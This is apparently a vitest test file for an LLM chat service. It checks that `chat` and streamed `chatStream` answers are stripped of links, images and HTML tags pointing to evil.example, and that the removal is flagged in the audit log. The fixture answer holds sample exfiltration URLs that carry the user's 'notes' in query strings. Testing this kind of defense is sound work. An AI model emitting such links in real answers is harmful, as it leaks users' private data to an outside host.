// The output link check on the real procedures over HTTP: `chat` (whole answer) and
// `chatStream` (the answer streamed one character per upstream chunk) never hand a client a
// URL off the allow-list (none configured here), and the removal is flagged in the audit.
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type ChatStreamEvent, createClient } from "../../client/index.ts";
import { startTestServer, type TestServer } from "../helpers/http.ts";
import { foreignUrls } from "../helpers/rendered-urls.ts";
import { createTestKey } from "../helpers/services.ts";
import { stream, text } from "../model/fake-openai.ts";
import { CHAT, rowsOfCall, useOpenAiServices } from "./support.ts";

const { fixture, services } = useOpenAiServices();
let server: TestServer;
beforeEach(async () => {
  server = await startTestServer(services());
});
afterEach(() => server.close());

const HELLO = { messages: [{ role: "user" as const, content: "Summarize my notes." }] };
const ANSWER = [
  "Here is your summary. ![chart](HTTPS://EVIL.example/c.png?d=notes) and",
  "[more](//evil.example/?q=notes 'see') or <img src='https://evil.example/p?notes'>.",
  "",
  "![ref][r] www.evil.example/?notes <https://evil.example/a>",
  "",
  "[r]: https://evil.example/r?notes",
].join("\n");

async function client() {
  const key = await createTestKey(services(), { scopes: CHAT });
  return createClient({ url: server.url, apiKey: key.plaintext });
}

describe("output links on chat and chatStream", () => {
  it("the answer carries foreign URLs before the check", () => {
    expect(foreignUrls(ANSWER, []).length).toBeGreaterThanOrEqual(6);
  });

  it("chat returns the answer without them, flagged", async () => {
    fixture.fake.script(text(ANSWER));
    const result = await (await client()).chat.mutate(HELLO);
    const answer = result.message.content;
    expect(foreignUrls(answer, [])).toEqual([]);
    expect(answer).toContain("Here is your summary.");
    expect(answer).not.toContain("evil.example");
    expect(result.flags).toContain("exfiltration_link_removed");
    await services().audit.drain();
    const { finals } = await rowsOfCall(services().database, "chat");
    expect(finals[0]?.output ?? "").not.toContain("evil.example");
    expect(finals[0]?.flags).toEqual(
      expect.arrayContaining([
        "exfiltration_image_removed",
        "exfiltration_link_removed",
        "exfiltration_html_removed",
      ]),
    );
  });

  it("chatStream fed one character per chunk streams it without them", async () => {
    fixture.fake.script(stream([...ANSWER], { usage: true }));
    const events: ChatStreamEvent[] = [];
    for await (const event of await (await client()).chatStream.mutate(HELLO)) events.push(event);
    const streamed = events.flatMap((e) => (e.type === "delta" ? [e.text] : [])).join("");
    expect(events.at(-1)?.type).toBe("done");
    expect(foreignUrls(streamed, [])).toEqual([]);
    expect(streamed).toContain("Here is your summary.");
    expect(streamed).not.toContain("evil.example");
  });
});
